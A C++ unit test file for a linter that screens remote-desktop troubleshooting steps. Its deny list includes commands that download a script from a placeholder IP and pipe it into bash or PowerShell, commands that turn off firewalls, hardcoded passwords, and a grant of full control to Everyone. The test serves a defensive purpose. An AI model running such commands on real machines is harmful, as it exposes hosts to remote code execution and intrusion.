#include "knowledge/command_lint.hpp"

#include <gmock/gmock.h>

#include "knowledge/make.hpp"

namespace doctor::knowledge {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

TEST(CommandLint, RefusesWhatAnAdministratorWould) {
  struct Bad {
    std::string_view shell, command, says;
  };
  static constexpr Bad kBad[]{
      {"cmd", "wmic service where name='TermService' get state", "CIM"},
      {"powershell", "Get-WmiObject Win32_Service", "CIM"},
      {"bash", "curl -s http://192.0.2.1/x.sh | sudo bash", "runs what it downloads"},
      {"powershell", "iwr http://192.0.2.1/x.ps1 | iex", "runs what it downloads"},
      {"cmd", "net user helper Secret123 /add", "password"},
      {"cmd", "cmdkey /generic:TERMSRV/host /user:me /pass:Secret123", "password"},
      {"bash", "xfreerdp /v:host /u:me /p:Secret123", "password"},
      {"bash", "curl -skI https://host/", "certificate"},
      {"bash", "wget --no-check-certificate https://host/", "certificate"},
      {"cmd", "netsh advfirewall set allprofiles state off", "firewall"},
      {"powershell", "Set-NetFirewallProfile -All -Enabled False", "firewall"},
      {"bash", "sudo systemctl stop firewalld", "firewall"},
      {"bash", "sudo ufw disable", "firewall"},
      {"powershell", "Restart-Service TermService", "dependants"},
      {"cmd", "net stop termservice", "dependants"},
      {"cmd", "icacls C:\\Keys /grant Everyone:F", "everybody"},
      {"cmd", "mstsc /v:<name of host>", "quotes"},
  };
  for (const auto& bad : kBad) EXPECT_THAT(faults_of_command(bad.shell, bad.command), ElementsAre(HasSubstr(std::string{bad.says}))) << bad.command;
}

TEST(CommandLint, LetsGoodCommandsBe) {
  for (const std::string_view good :
       {"net user USER *", "net user RDPUSER * /add", "net user USER /active:yes", "net user USER /domain", "Restart-Service TermService -Force",
        "net stop termservice /y", "curl -sI https://GATEWAY/remoteDesktopGateway/", "openssl s_client -connect a:443 </dev/null",
        "sudo systemctl restart xrdp", "Get-NetFirewallRule -Name RemoteDesktop-UserMode-In-UDP | Format-Table Name,Enabled",
        "mstsc /v:\"<name of host>\""})
    EXPECT_THAT(faults_of_command("powershell", good), IsEmpty()) << good;
}

std::vector<std::string> problems_of_steps(const std::string& steps,
                                           const std::string& more = "weakens_security: false\nbackup_first: Nothing to back up.") {
  Problems problems;
  const auto known = test::load_well(
      {{"fixes/cut.yaml",
        text::format(
            "id: cut\ntitle: Cut\nkind: check\nside: host\ndifficulty: easy\nminutes: 1\nrisk: low\nneeds: "
            "administrator\n{}\nsteps:\n{}undo: [ {{ shell: text, text: Back. }} ]\nverify: [ {{ shell: text, text: Look. }} ]\nsources: [here]\n",
            more, steps)}});
  lint_commands(known, problems);
  std::vector<std::string> out;
  for (const auto& each : std::move(problems).sorted()) out.push_back(each.message);
  return out;
}

TEST(CommandLint, WantsWhatIsDeletedSavedFirst) {
  const std::string remove = "  - { shell: cmd, text: 'reg delete HKLM\\X /f' }\n";
  EXPECT_THAT(problems_of_steps(remove), ElementsAre("deletes from the registry without a reg export before"));
  EXPECT_THAT(problems_of_steps("  - { shell: cmd, text: 'reg export HKLM\\X x.reg /y' }\n" + remove), IsEmpty());
  EXPECT_THAT(problems_of_steps("  - { shell: bash, text: rm /etc/xrdp/key.pem }\n"), ElementsAre("deletes with nothing saved before"));
}

TEST(CommandLint, WantsALoweredSettingToSaySo) {
  const std::string lower = "  - { shell: cmd, text: 'reg add HKLM\\RDP-Tcp /v UserAuthentication /t REG_DWORD /d 0 /f' }\n";
  EXPECT_THAT(problems_of_steps(lower), ElementsAre(HasSubstr("weakens_security")));
  EXPECT_THAT(problems_of_steps(lower, "weakens_security: true\nbackup_first: The value."), IsEmpty());
}

}  // namespace
}  // namespace doctor::knowledge
